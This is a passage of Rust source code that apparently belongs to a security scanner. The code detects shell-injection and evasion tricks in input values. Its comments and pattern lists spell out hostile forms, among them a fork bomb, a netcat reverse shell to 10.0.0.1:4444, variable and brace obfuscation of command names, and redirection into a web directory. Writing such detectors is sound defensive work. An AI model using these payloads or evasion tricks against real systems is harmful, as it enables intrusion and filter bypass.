                        out.text.push(n as char);
                    }
                }
                i += 2;
            }
            b'^' if s.get(i + 1).is_some_and(u8::is_ascii_alphanumeric) => {
                evasive = true;
                i += 1;
            }
            b'$' => {
                // `${IFS}`, `$IFS`, `$@`, `$1`, `$$`, `$?`, `$_`: blanks or
                // nothing to the shell (`c$_at` runs `cat`).
                let rest = &s[i + 1..(i + 33).min(s.len())];
                // `$SHELL -c ...`: the user's shell.
                if i == start && (rest.starts_with(b"shell") || rest.starts_with(b"{shell}")) {
                    let n = if rest[0] == b'{' { 8 } else { 6 };
                    if s.get(i + n).is_none_or(|c| !c.is_ascii_alphanumeric()) {
                        out.text.push_str("sh");
                        i += n;
                        continue;
                    }
                }
                // An unset variable inside a word (`uname$u`, `c$u\at`)
                // expands to nothing; `$()` too.
                let name_len = rest
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                let inner_variable = i > start
                    && s[start] != b'$'
                    && s[i - 1].is_ascii_alphanumeric()
                    && name_len > 0
                    && name_len < 8
                    && rest[0].is_ascii_alphabetic();
                let skip = if rest.starts_with(b"()") {
                    Some(3)
                } else if inner_variable && !rest.starts_with(b"ifs") {
                    Some(name_len + 1)
                } else if rest.starts_with(b"{ifs") {
                    memchr::memchr(b'}', rest).map(|p| p + 2)
                } else if rest.starts_with(b"ifs") {
                    Some(4)
                } else if rest.first().is_some_and(|c| {
                    matches!(
                        c,
                        b'@' | b'*' | b'0'..=b'9' | b'$' | b'!' | b'?' | b'-' | b'_' | b'#'
                    )
                }) {
                    Some(2)
                } else if rest.starts_with(b"{") {
                    memchr::memchr(b'}', rest)
                        .filter(|p| *p < 32)
                        .map(|p| p + 2)
                } else {
                    None
                };
                match skip {
                    Some(n) => {
                        evasive = true;
                        let blank = rest.starts_with(b"{ifs") || rest.starts_with(b"ifs");
                        i += n;
                        if blank {
                            break;
                        }
                    }
                    None if rest.first() == Some(&b'(') => break,
                    None => {
                        out.text.push('$');
                        i += 1;
                    }
                }
            }
            b'?' | b'*' | b'[' => {
                glob = true;
                out.text.push(b as char);
                i += 1;
            }
            _ if is_plain_word_byte(b) => {
                // A run of bytes with no shell meaning: copied at once.
                let mut j = i + 1;
                while j < s.len() && is_plain_word_byte(s[j]) {
                    j += 1;
                }
                letters_before_quote = s[j - 1].is_ascii_alphanumeric();
                out.text
                    .push_str(std::str::from_utf8(&s[i..j]).unwrap_or(""));
                i = j;
            }
            _ => {
                letters_before_quote = b.is_ascii_alphanumeric();
                let ch_len = utf8_len(b);
                let end = (i + ch_len).min(s.len());
                out.text
                    .push_str(std::str::from_utf8(&s[i..end]).unwrap_or(""));
                i = end;
            }
        }
    }
    if i == start {
        i += 1;
    }
    out.pieces.push(Piece::Word {
        start,
        end: i,
        text_start,
        text_end: out.text.len(),
        evasive,
        glob,
    });
    i
}

/// ASCII bytes that are part of a word and nothing else to the lexer.
fn is_plain_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b'.' | b'-'
                | b'_'
                | b'/'
                | b':'
                | b'='
                | b'+'
                | b'@'
                | b'#'
                | b'%'
                | b'!'
                | b'~'
                | b'{'
        )
}

fn utf8_len(b: u8) -> usize {
    match b {
        0xC0..=0xDF => 2,
        0xE0..=0xEF => 3,
        0xF0..=0xF7 => 4,
        _ => 1,
    }
}

#[derive(Default)]
pub(crate) struct ShellScratch {
    lexed: Option<Lexed>,
}

impl ShellScratch {
    pub(crate) fn capacity(&self) -> usize {
        self.lexed.as_ref().map_or(0, |l| {
            l.pieces.capacity() * std::mem::size_of::<Piece>() + l.text.capacity()
        })
    }
}

/// A shell function that calls itself twice, one call in the background or
/// piped into the other: `:(){ :|:& };:`, `f(){ f & f; }; f`.
fn fork_bomb(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for (p, _) in crate::text::find_iter(lower, "()") {
        let name_start = s[..p]
            .iter()
            .rposition(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b':' | b'.' | b'-')))
            .map_or(0, |q| q + 1);
        let name = &lower[name_start..p];
        let after = lower[p + 2..].trim_start();
        if name.is_empty() || name.len() > 32 || !after.starts_with('{') {
            continue;
        }
        let body_end = after.find('}').unwrap_or(after.len()).min(256);
        let body = &after[1..body_end];
        let calls = crate::text::find_iter(body, name)
            .filter(|(q, _)| {
                let rest = body[q + name.len()..].trim_start_matches("()").trim_start();
                rest.starts_with(['|', '&', ';']) || rest.is_empty()
            })
            .count();
        if calls >= 2 && body.contains(['|', '&']) {
            return Some(name_start);
        }
    }
    None
}

/// Brace expansion that spells a command: `{,ip,a}` is `ip a`, `{l,-lh}s`
/// is `ls -lhs`, `{,$'whoami',}` is `whoami`.
fn brace_command(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for open in memchr::memchr_iter(b'{', s) {
        let window = &lower[open + 1..(open + 128).min(lower.len())];
        let Some(close) = window.find('}') else {
            continue;
        };
        let inner = &window[..close];
        if !inner.contains(',') || inner.contains(' ') {
            continue;
        }
        let prefix_start = s[..open]
            .iter()
            .rposition(|b| matches!(b, b' ' | b';' | b'|' | b'&' | b'=' | b'(' | b'`'))
            .map_or(0, |q| q + 1);
        let prefix = &lower[prefix_start..open];
        if prefix.contains('$') {
            continue;
        }
        let tail = &window[close + 1..];
        let suffix = &tail[..tail.find([' ', ';', '|', '&']).unwrap_or(tail.len())];
        let mut words = inner
            .split(',')
            .map(|alt| (alt, prefix.len() + alt.len() + suffix.len()))
            .filter(|(_, len)| *len > 0);
        let Some((first, _)) = words.next() else {
            continue;
        };
        let mut name = String::with_capacity(prefix.len() + first.len() + suffix.len());
        name.push_str(prefix);
        name.push_str(first.trim_start_matches('$').trim_matches(['\'', '"']));
        name.push_str(suffix);
        let base = name.rsplit('/').next().unwrap_or(&name);
        let shaped_arg = words.any(|(alt, _)| {
            let mut arg = String::from(prefix);
            arg.push_str(alt);
            arg.push_str(suffix);
            shell_shaped(&arg, base)
        });
        // An empty alternative (`{id,}`, `{,echo,x}`) or a brace inside a
        // word (`c{a,oun}t`) is written for the shell, not as a list.
        let crafted =
            inner.split(',').any(str::is_empty) || !prefix.is_empty() || !suffix.is_empty();
        // (`cd`, a builtin, is judged below: `{cd,dvd,/vinyl}` is a list.)
        if let Some((ambiguous, _)) = command(base)
            && base != "cd"
            && (!ambiguous || shaped_arg || crafted)
        {
            return Some(open);
        }
        // A builtin (not in the command table) spelled the same way with a
        // path or option after it: `{,cd,/etc,}`.
        if crafted && shaped_arg && matches!(base, "cd" | "eval" | "exec" | "source" | "export") {
            return Some(open);
        }
    }
    None
}

/// Inspects `lower` (the lower-cased normalized value).
/// Expansions only a shell has: process substitution running a command
/// (`<(cat file)`, `>(tee log)`) and arithmetic expansion (`$((1+1))`,
/// the obsolete `$[2+2]`) of numbers, names and operators.
fn shell_only_expansion(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for p in memchr::memchr_iter(b'(', s) {
        if p == 0 {
            continue;
        }
        let before = s[p - 1];
        if matches!(before, b'<' | b'>') && (p < 2 || s[p - 2] != before) {
            let word: &str = lower[p + 1..]
                .trim_start()
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
                .next()
                .unwrap_or("");
            if command(word).is_some() {
                return Some(p - 1);
            }
        }
        if before == b'$' && s.get(p + 1) == Some(&b'(') {
            let inner = window(lower, p + 2);
            if let Some(close) = crate::text::find(inner, "))")
                && arithmetic(&inner[..close])
            {
                return Some(p - 1);
            }
        }
    }
    // `$[...]` is also JSONPath (`$[0].name`, `$[-1]`): only a binary
    // arithmetic operation in it (`$[2+2]`) is the shell's.
    for p in memchr::memmem::find_iter(s, b"$[") {
        let inner = window(lower, p + 2);
        if let Some(close) = inner.find(']')
            && arithmetic(&inner[..close])
            && inner.as_bytes()[..close].windows(3).any(|w| {
                w[0].is_ascii_alphanumeric()
                    && matches!(w[1], b'+' | b'*' | b'/' | b'%')
                    && w[2].is_ascii_alphanumeric()
            })
        {
            return Some(p);
        }
    }
    None
}

/// A variable assigned and then run as (part of) the next command's name:
/// `g=cur[l];$g x`, `v='u';cu$v\\r\\l host`. The command is spelled
/// nowhere, only put together by the shell.
fn assigned_then_run(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    if memchr::memchr(b'$', s).is_none() || memchr::memchr(b'=', s).is_none() {
        return None;
    }
    let mut segments = lower.split([';', '\n']).scan(0, |at, seg| {
        let start = *at;
        *at += seg.len() + 1;
        Some((start, seg))
    });
    let mut previous = segments.next()?;
    for (start, seg) in segments.take(16) {
        let assignment = previous.1.trim();
        if let Some((name, value)) = assignment.split_once('=')
            && !name.is_empty()
            && name.len() <= 32
            && name.as_bytes()[0].is_ascii_alphabetic()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !value.is_empty()
            && !value.contains(' ')
            && let Some(head) = seg.split_ascii_whitespace().next()
        {
            let used = crate::text::find_iter(head, "$").any(|(p, _)| {
                let rest = head[p + 1..].trim_start_matches('{');
                rest.strip_prefix(name).is_some_and(|after| {
                    !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
                })
            });
            if used {
                return Some(previous.0);
            }
        }
        previous = (start, seg);
    }
    None
}

/// A whole value made of history references by relative position:
/// `!-1`, `!-1!-2` (bash re-runs the commands before the current one).
fn history_events(lower: &str) -> bool {
    let v = lower.trim();
    v.starts_with("!-")
        && v.split('!').skip(1).all(|event| {
            event.trim_end().strip_prefix('-').is_some_and(|n| {
                !n.is_empty() && n.len() <= 4 && n.bytes().all(|b| b.is_ascii_digit())
            })
        })
}

/// Netcat told to run a program on the connection: `nc 10.0.0.1 4444 -e
/// sh`, `ncat -l 80 -c /bin/bash` (the options may follow host and port).
fn netcat_exec(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    let option = |p: usize| {
        p > 0
            && s[p - 1] == b' '
            && matches!(s.get(p + 1), Some(b'e' | b'c'))
            && s.get(p + 2) == Some(&b' ')
    };
    if !memchr::memchr_iter(b'-', s).any(option) {
        return None;
    }
    for name in ["nc ", "ncat ", "netcat "] {
        for (p, _) in crate::text::find_iter(lower, name) {
            if p > 0 && (s[p - 1].is_ascii_alphanumeric() || matches!(s[p - 1], b'-' | b'_' | b'.'))
            {
                continue;
            }
            let args = &lower[p + name.len()..];
            let args = &args[..args
                .find([';', '|', '&', '\n'])
                .unwrap_or(args.len())
                .min(128)];
            let mut words = args.split_ascii_whitespace();
            while let Some(w) = words.next() {
                if matches!(w, "-e" | "-c")
                    && let Some(program) = words.next()
                {
                    // (An escaped line break written out, `sh\\n`, ends it.)
                    let program = program.split("\\n").next().unwrap_or(program);
                    if matches!(
                        program_name(program),
                        "sh" | "bash"
                            | "dash"
                            | "zsh"
                            | "ksh"
                            | "csh"
                            | "tcsh"
                            | "ash"
                            | "cmd"
                            | "powershell"
                            | "pwsh"
                            | "python"
                            | "python3"
                            | "perl"
                    ) {
                        return Some(p);
                    }
                }
            }
        }
    }
    None
}

/// A whole value that is a tilde expansion of the directory stack: `~+`
/// (`$PWD`), `~-` (`$OLDPWD`), `~+2`, `~-1` (`dirs` entries). A bare `~N`
/// is left alone: `~1` is also a semver range and "about one".
fn directory_stack_tilde(lower: &str) -> bool {
    let Some(rest) = lower.trim().strip_prefix('~') else {
        return false;
    };
    rest.strip_prefix(['+', '-'])
        .is_some_and(|n| n.bytes().all(|b| b.is_ascii_digit()))
}

/// Parameter expansions only a shell has: prefix removal on a variable
/// (`${PATH#*:}`, `${x##{}}`, `${#name}` is a length) and a command
/// substitution as the parameter (`${`id`}`, `${$(id)}`). A template
/// placeholder (`${name}`, `${user.id}`, JavaScript's `${a % b}`) has
/// neither.
fn parameter_expansion(lower: &str) -> Option<usize> {
    let s = lower.as_bytes();
    for p in memchr::memchr_iter(b'$', s).filter(|p| s.get(p + 1) == Some(&b'{')) {
        let inner = window(lower, p + 2);
        let name = inner
            .bytes()
            .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
            .count();
        let after = &inner[name..];
        let prefix_removal = name > 0
            && inner.as_bytes()[0].is_ascii_alphabetic()
            && after.starts_with('#')
            && after.contains('}');
        let length = name == 0
            && after.starts_with('#')
            && after[1..]
                .bytes()
                .take_while(|b| b.is_ascii_alphanumeric() || *b == b'_')
                .count()
                > 0
            && after[1..]
                .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
                .starts_with('}');
        let substituted = name == 0 && {
            let code = after
                .strip_prefix('`')
                .or_else(|| after.strip_prefix("$("))
                .unwrap_or("");
            let word = code
                .trim_start()
                .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'))
                .next()
                .unwrap_or("");
            command(word).is_some()
        };
        if prefix_removal || length || substituted {
            return Some(p);
        }
    }
    None
}

/// At most 64 bytes of `lower` from `from`, so each look-ahead is bounded.
fn window(lower: &str, from: usize) -> &str {
    let mut end = (from + 64).min(lower.len());
    while !lower.is_char_boundary(end) {
        end -= 1;
    }
    lower.get(from..end).unwrap_or("")
}

/// Shell arithmetic: digits, names, operators, parentheses (may be empty).
fn arithmetic(inner: &str) -> bool {
    inner.bytes().all(|b| {
        b.is_ascii_alphanumeric()
            || matches!(
                b,
                b' ' | b'+'
                    | b'-'
                    | b'*'
                    | b'/'
                    | b'%'
                    | b'('
                    | b')'
                    | b'$'
                    | b'<'
                    | b'>'
                    | b'='
                    | b'!'
                    | b'&'
                    | b'|'
                    | b'^'
                    | b'~'
                    | b'_'
            )
    })
}

/// The bytes [`inspect`]'s checks are gated on, each with a bit of a
/// [`Present`] mask: every check below runs only when a byte its every
/// report needs is in the value, found in one pass over it instead of a
/// scan per check (most values reaching this engine have few of them).
const GATE_BYTES: &[u8] = b"{-(:$=!~<>[/%.;\n|vx'\"";

/// Which [`GATE_BYTES`] a value has.
#[derive(Clone, Copy)]
struct Present(u32);

impl Present {
    const BIT: [u32; 256] = {
        let mut t = [0u32; 256];
        let mut i = 0;
        while i < GATE_BYTES.len() {
            t[GATE_BYTES[i] as usize] = 1 << i;
            i += 1;
        }
        t
    };

    fn of(s: &str) -> Self {
        Present(
            s.bytes()
                .fold(0, |mask, c| mask | Self::BIT[usize::from(c)]),
        )
    }

    /// Whether `c` may be in the value (always, for a byte not gated on).
    fn has(self, c: u8) -> bool {
        let bit = Self::BIT[usize::from(c)];
        bit == 0 || self.0 & bit != 0
    }
}

/// The needle lists [`Anchored`] looks for, one bit each.
mod list {
    pub(super) const REVERSE_SHELL: u8 = 1;
    pub(super) const POWERSHELL: u8 = 2;
}

/// Needle lists grouped by one byte each needle has (the one benign text
/// has least often, by [`ANCHOR_RARITY`]), with its offset in the needle:
/// a needle occurs only where its anchor byte does, with the needle's
/// neighbour of that byte beside it, so looking at the anchors' occurrences
/// alone says whether any needle occurs. Several lists share one pass (each
/// needle keeps its list's bit).
struct Anchored {
    groups: Vec<AnchorGroup>,
    /// Per byte, 1 + the index of the group it anchors, 0 when none.
    group_of: [u8; 256],
    /// The bits of all the lists.
    all: u8,
}

/// Values up to this long are looked through in one pass over their bytes
/// (a table look-up each); longer ones with a vectorised search per anchor
/// byte, whose set-up costs more than a short value's pass.
const ANCHOR_PASS_MAX: usize = 256;

struct AnchorGroup {
    anchor: u8,
    /// The bytes after the anchor in the needles that go on after it, and
    /// before it in those that end with it.
    next: ByteSet,
    previous: ByteSet,
    /// (Offset of the anchor, needle, bit of its list.)
    needles: Vec<(usize, &'static str, u8)>,
}

/// A set of bytes.
#[derive(Default)]
struct ByteSet([u64; 4]);

impl ByteSet {
    fn insert(&mut self, c: u8) {
        self.0[usize::from(c >> 6)] |= 1 << (c & 63);
    }

    fn contains(&self, c: u8) -> bool {
        self.0[usize::from(c >> 6)] & (1 << (c & 63)) != 0
    }
}

/// Gated bytes from rare to common in benign text.
const ANCHOR_RARITY: &[u8] = b"<>[|{$~!%;:=x(v/-.";

impl Anchored {
    fn new(lists: &[(&'static [&'static str], u8)]) -> Self {
        let mut groups: Vec<AnchorGroup> = Vec::new();
        let mut all = 0;
        for &(needles, bit) in lists {
            all |= bit;
            for needle in needles {
                let b = needle.as_bytes();
                let anchor = ANCHOR_RARITY
                    .iter()
                    .find(|c| b.contains(c))
                    .or(b.first())
                    .copied()
                    .unwrap_or(0);
                let offset = b.iter().position(|c| *c == anchor).unwrap_or(0);
                let group = match groups.iter().position(|g| g.anchor == anchor) {
                    Some(g) => &mut groups[g],
                    None => {
                        groups.push(AnchorGroup {
                            anchor,
                            next: ByteSet::default(),
                            previous: ByteSet::default(),
                            needles: Vec::new(),
                        });
                        groups.last_mut().expect("just pushed")
                    }
                };
                // (No needle is one byte long: each has a neighbour.)
                match b.get(offset + 1) {
                    Some(&c) => group.next.insert(c),
                    None => group.previous.insert(b[offset.saturating_sub(1)]),
                }
                group.needles.push((offset, needle, bit));
            }
        }
        let mut group_of = [0u8; 256];
        for (index, group) in groups.iter().enumerate() {
            group_of[usize::from(group.anchor)] = u8::try_from(index + 1).unwrap_or(u8::MAX);
        }
        Anchored {
            groups,
            group_of,
            all,
        }
    }

    /// The lists with a needle of `group` that occurs with its anchor at
    /// `p`.
    fn occurs_at(group: &AnchorGroup, s: &[u8], p: usize) -> u8 {
        let beside = s.get(p + 1).is_some_and(|c| group.next.contains(*c))
            || (p > 0 && group.previous.contains(s[p - 1]));
        if !beside {
            return 0;
        }
        group
            .needles
            .iter()
            .filter(|(offset, needle, _)| {
                p >= *offset && s[p - offset..].starts_with(needle.as_bytes())
            })
            .fold(0, |found, (_, _, bit)| found | bit)
    }

    /// The [`GATE_BYTES`] `s` has, and the lists with a needle in `s`.
    fn scan(&self, s: &str) -> (Present, u8) {
        let b = s.as_bytes();
        // Both ways test every occurrence of every anchor byte (a needle
        // occurs only with its anchor), so they give the same answer.
        if b.len() <= ANCHOR_PASS_MAX {
            // One pass for the present bytes and the anchors.
            let mut mask = 0;
            let mut found = 0;
            for (p, &c) in b.iter().enumerate() {
                mask |= Present::BIT[usize::from(c)];
                let g = usize::from(self.group_of[usize::from(c)]);
                if g != 0 {
                    found |= Self::occurs_at(&self.groups[g - 1], b, p);
                }
            }
            return (Present(mask), found);
        }
        let present = Present::of(s);
        let mut found = 0;
        for g in &self.groups {
            if found == self.all {
                break;
            }
            if present.has(g.anchor) {
                for p in memchr::memchr_iter(g.anchor, b) {
                    found |= Self::occurs_at(g, b, p);
                }
            }
        }
        (present, found)
    }
}

pub(crate) fn inspect(lower: &str, scratch: &mut ShellScratch, sink: &mut Sink<'_>) {
    static ANCHORS: std::sync::OnceLock<Anchored> = std::sync::OnceLock::new();
    let (present, needles) = ANCHORS
        .get_or_init(|| {
            Anchored::new(&[
                (REVERSE_SHELL_NEEDLES, list::REVERSE_SHELL),
                (POWERSHELL_NEEDLES, list::POWERSHELL),
            ])
        })
        .scan(lower);
    let has = |c: u8| present.has(c);
    // Each check below runs only when a byte that all its reports need is
    // present (the reason is given with each); skipping the others changes
    // no verdict, and the reports keep their order.
    // Both find a `{` first.
    if has(b'{') {
        if let Some(p) = fork_bomb(lower) {
            sink.report(&rules::RCE_FORK_BOMB, lower, p..(p + 24).min(lower.len()));
        }
        if let Some(p) = brace_command(lower) {
            sink.report(&rules::RCE_EVASION, lower, p..(p + 24).min(lower.len()));
        }
    }
    // Both report only a needle of their list they found (`Anchored` says
    // whether one occurs, a test checks it against the automaton).
    if needles & list::REVERSE_SHELL != 0 {
        reverse_shells(lower, sink);
    }
    // (`powershell` also returns early without `-`, `::`, `iex` or `(`.)
    if (has(b'-') || has(b'(') || has(b':') || has(b'x')) && needles & list::POWERSHELL != 0 {
        powershell(lower, sink);
    }
    // `assigned_then_run` returns at once without both.
    if has(b'$')
        && has(b'=')
        && let Some(p) = assigned_then_run(lower)
    {
        sink.report(&rules::RCE_EVASION, lower, p..(p + 32).min(lower.len()));
    }
    // `netcat_exec` needs an option ` -e ` or ` -c `.
    if has(b'-')
        && let Some(p) = netcat_exec(lower)
    {
        sink.report(
            &rules::RCE_REVERSE_SHELL,
            lower,
            p..(p + 32).min(lower.len()),
        );
    }
    // A value starting `!-` or `~`.
    if (has(b'!') || has(b'~')) && (history_events(lower) || directory_stack_tilde(lower)) {
        sink.report(&rules::RCE_SUBSTITUTION, lower, 0..lower.len().min(24));
    }
    // `>/tmp/x`: an output redirection opening the value.
    if has(b'>')
        && let Some(p) = redirect_into_file(lower)
    {
        sink.report(
            &rules::RCE_UNIX_COMMAND,
            lower,
            p..(p + 32).min(lower.len()),
        );
    }
    // `<(` `>(` `$((` `$[` (`shell_only_expansion`) and `${`
    // (`parameter_expansion`).
    if (has(b'$') || (has(b'(') && (has(b'<') || has(b'>'))))
        && let Some(p) = shell_only_expansion(lower).or_else(|| parameter_expansion(lower))
    {
        sink.report(
            &rules::RCE_SUBSTITUTION,
            lower,
            p..(p + 24).min(lower.len()),
        );
    }
    // (A lone word can only be a bare command: see `lone_word`.)
    if commands_may_report(lower) && (sink.wants(&rules::RCE_BARE_COMMAND) || !lone_word(lower)) {
        commands(lower, scratch, sink);
    }
    // The value may land inside a quoted argument: what follows its first
    // quote is then shell syntax again (`';id;'`, `"|id|"`).
    for quote in [b'\'', b'"'] {
        if has(quote)
            && let Some(p) = memchr::memchr(quote, lower.as_bytes())
        {
            // (A quote is ASCII: the slice stays a `str`.)
            let rest = &lower[p + 1..];
            if commands_may_report(rest) {
                commands(rest, scratch, sink);
            }
        }
    }
    // cmd's FOR loop runs a command per item: `for /f %v in (...) do ...`.
    if has(b'/')
        && let Some(p) = crate::text::find(lower, "for /")
        && let Some(rest) = lower.get(p + 5..)
        && rest.starts_with(['l', 'f', 'd', 'r'])
        && crate::text::contains(rest, " in (")
        && crate::text::contains(rest, " do ")
    {
        sink.report(
            &rules::RCE_WINDOWS_COMMAND,
            lower,
            p..(p + 32).min(lower.len()),
        );
    }
    // The plain loop over a set: `for %v in (set) do cmd` (`%%v` in a
    // batch file); no prose puts a `%` name between `for` and `in (`.
    if has(b'%')
        && let Some(p) = crate::text::find(lower, "for %")
        && let Some(rest) = lower.get(p + 5..(p + 128).min(lower.len()))
        && let Some(var) = rest.trim_start_matches('%').split(' ').next()
        && !var.is_empty()
        && var.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && rest.trim_start_matches('%')[var.len()..].starts_with(" in (")
        && crate::text::contains(rest, ") do ")
    {
        sink.report(
            &rules::RCE_WINDOWS_COMMAND,
            lower,
            p..(p + 32).min(lower.len()),
        );
    }
    // A `.` after a `;` or a line break.
    if has(b'.')
        && (has(b';') || has(b'\n'))
        && let Some(p) = sqlite_dot_command(lower)
    {
        sink.report(
            &rules::RCE_COMMAND_CHAIN,
            lower,
            p..(p + 32).min(lower.len()),
        );
    }
    for var in ["%comspec%", "%systemroot%", "%windir%", "%programfiles%"] {
        if has(b'%')
            && let Some(p) = crate::text::find(lower, var)
        {
            sink.report(&rules::RCE_WINDOWS_COMMAND, lower, p..p + var.len());
        }
    }
}

/// `>/tmp/curl`, `2>>/var/www/x.php`: a value that is an output
/// redirection glued to an absolute path of two segments or more, and
/// nothing else. Appended to a command, it writes that file; prose and
/// Markdown quotes put a blank after `>` (`> /tmp is full`). The position
/// of the `>`.
fn redirect_into_file(lower: &str) -> Option<usize> {
    let start = lower.len() - crate::text::trim_start(lower).len();
    let rest = &lower[start..];
    let rest = rest.strip_prefix(['1', '2']).unwrap_or(rest);
    let op = lower.len() - rest.len();
    let rest = rest.strip_prefix(">>").or_else(|| rest.strip_prefix('>'))?;
    let path = crate::text::trim(rest);
    (path.len() == rest.trim_end().len()
        && path.starts_with('/')
        && path[1..].contains('/')
        && !path.ends_with('/')
        && path
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'_' | b'-')))
    .then_some(op)
}

/// Whether `s` is one word of letters, digits, `.`, `-` and `_` (a key
/// such as `id`, `date`, `type`), on which [`commands`] can report only
/// [`rules::RCE_BARE_COMMAND`]: every byte is a plain word byte to the
/// lexer, so it lexes to that one word, its text its bytes, neither
/// evasive nor globbed, at the start, with no piece after it. So no glob
/// report; `://`, a `/`, `$` names (`variable_names`), `=` and a path are
/// absent; no wrapper takes effect (no next word); and with the position
/// `None` at the start, no arguments and no next piece, `first_shaped`,
/// `timing_probe`, `distinctive_call` and `chained` are all false: what is
/// left is the bare-command report.
fn lone_word(s: &str) -> bool {
    s.bytes()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'-' | b'_'))
}

/// Byte classes of [`commands_may_report`].
mod class {
    /// Ends a lexer word when unquoted (blanks, `;`, `|`, `&`, `)`, a line
    /// break), or may end one (the [`SOFT`] bytes).
    pub(super) const SPLIT: u8 = 1;
    /// A split byte that ends a word only sometimes: a brace list's `,` and
    /// `}`, a `{` that opens one, a `(` that opens a subshell. Otherwise it
    /// is part of the word.
    pub(super) const SOFT: u8 = 2;
    /// A split byte that may be (the end of) an operator after which a
    /// word is in command position: `;` `|` `&` `(` `{` a line break, and
    /// `)` (which keeps the position an operator before it gave: `a; ) id`).
    pub(super) const OPERATOR: u8 = 4;
    pub(super) const QUOTE: u8 = 8;
    /// Bytes that can make a word's shell text differ from its bytes other
    /// than by dropping quotes, or start a word anywhere: `$` expansions
    /// (`$IFS`, `$SHELL`, `$a$b`), `\` escapes and Windows paths, cmd's
    /// `^`, empty substitutions joining a word (`pi``ng`, `pi<()ng`), and
    /// the `<` `>` `` ` `` operators.
    pub(super) const REWRITES: u8 = 16;
    pub(super) const GLOB: u8 = 32;
    pub(super) const SLASH: u8 = 64;

    pub(super) const OF: [u8; 256] = {
        let mut t = [0u8; 256];
        let bytes: [(&[u8], u8); 7] = [
            (b" \t\r\x0b\x0c", SPLIT),
            (b"\n;|&)", SPLIT | OPERATOR),
            (b",}", SPLIT | SOFT),
            (b"({", SPLIT | SOFT | OPERATOR),
            (b"'\"", QUOTE),
            (b"$\\^`<>", REWRITES),
            (b"?*[", GLOB),
        ];
        let mut set = 0;
        while set < bytes.len() {
            let (list, class) = bytes[set];
            let mut i = 0;
            while i < list.len() {
                t[list[i] as usize] = class;
                i += 1;
            }
            set += 1;
        }
        t[b'/' as usize] = SLASH;
        t
    };
}

/// Whether [`commands`] can report anything on `s`: `false` only when it
/// provably cannot, so the lexing is skipped (most values, and most text
/// after a value's first quote, put no command where a shell runs one).
///
/// Every report of `commands` is made for a word `w` (its shell text) that
/// is (a) a globbed path (`glob` set by an unquoted `?` `*` `[`, and `w`
/// starts with `/`), in any position, or, in command position, (b) made of
/// `$` variables (`variable_names`, the assigned-variable spacer), or (c) a
/// known command: `command` of `program_name(w)` or of its
/// `strip_version`; every other word is passed over (`known.is_none()` and
/// not a globbed path: `continue`; a globbed path that is no command
/// reaches only the `known`-guarded reports).
///
/// Without a [`class::REWRITES`] byte (anywhere, quoted or not) there is
/// no `$` (so no (b)), and the text of a word is its bytes minus the quotes
/// that delimit it or are unmatched: a quote runs to the next same quote
/// (all bytes between are text) or, with none, is dropped; both are
/// followed here exactly. Every word starts at the start of `s` or right
/// after an unquoted [`class::SPLIT`] byte, and ends at one. So cut `s` at
/// unquoted split bytes into pieces; a word starts where a piece does, and
/// spans more than one only across [`class::SOFT`] bytes.
///
/// (a) then needs a piece whose first byte other than a quote is `/`, and
/// a glob byte anywhere. For (c): no command name has a split byte or a
/// quote (a test checks), so `program_name(w)` has none, hence lies in the
/// last piece the word touches, after that piece's last `/`: it is that
/// piece's last path component with its quotes dropped (or it keeps a quote
/// and is no command), looked up here exactly as `commands` does. And the
/// word is in command position only if it is the first, or the lexer piece
/// before it is an operator (only blanks between: an [`class::OPERATOR`]
/// byte is in the gap before its first piece), or the word before it is a
/// wrapper (`is_wrapper` of its `program_name`, which lies in the last
/// piece before this word's first) that is itself in command position
/// (`commands` sets `wrapped` only past its `in_command_position` check);
/// the later pieces of a word that spans soft bytes inherit its position,
/// so its last piece may be in command position whenever the word is. A
/// piece that may not be is therefore never named.
///
/// (d) A word in command position whose text before its first `/` is a
/// Windows command (`ipconfig/all`, cmd.exe's glued switch): that name has
/// no split byte, so it lies in the word's first piece, before that piece's
/// first `/` (or holds a soft byte, and is no command); it is looked up at
/// that slash (with quotes and a `.exe` dropped, a superset).
fn commands_may_report(s: &str) -> bool {
    let b = s.as_bytes();
    let mut has_glob = false;
    let mut slash_first = false;
    // The open quote, 0 when none.
    let mut quote = 0u8;
    // The current piece: where it starts, whether only quotes were read so
    // far, where its last path component starts and whether that has a
    // quote.
    let mut piece = 0;
    let mut leading = true;
    let mut component = 0;
    let mut component_quoted = false;
    // Whether the current piece may be (part of) a word in command
    // position; of the last piece: that, and whether it was a wrapper; of
    // the split bytes since it: whether one was an operator or soft.
    let mut position = true;
    let mut last_position = false;
    let mut last_wrapper = false;
    let mut gap_operator = true;
    let mut gap_soft = false;
    // Where a quoted component is copied without its quotes.
    let mut buf = [0; 64];
    let mut i = 0;
    while i <= b.len() {
        // A run of bytes of no class (letters, digits, most punctuation).
        let run = i;
        i += b[i..]
            .iter()
            .position(|c| class::OF[usize::from(*c)] != 0)
            .unwrap_or(b.len() - i);
        leading &= i == run;
        let k = match b.get(i) {
            Some(c) => class::OF[usize::from(*c)],
            None => class::SPLIT,
        };
        let at = i;
        i += 1;
        if k & class::REWRITES != 0 {
            return true;
        }
        if k & class::QUOTE != 0 {
            component_quoted = true;
            if quote == b[at] {
                quote = 0;
            } else if quote == 0 && memchr::memchr(b[at], &b[at + 1..]).is_some() {
                quote = b[at];
            } else if quote != 0 {
                leading = false;
            }
            continue;
        }
        if k & class::SLASH != 0 {
            // (d): the text before the first `/` of a piece in command
            // position, a Windows command glued to a switch.
            if position && component == piece && at > piece {
                match component_name(&s[component..at], component_quoted, &mut buf) {
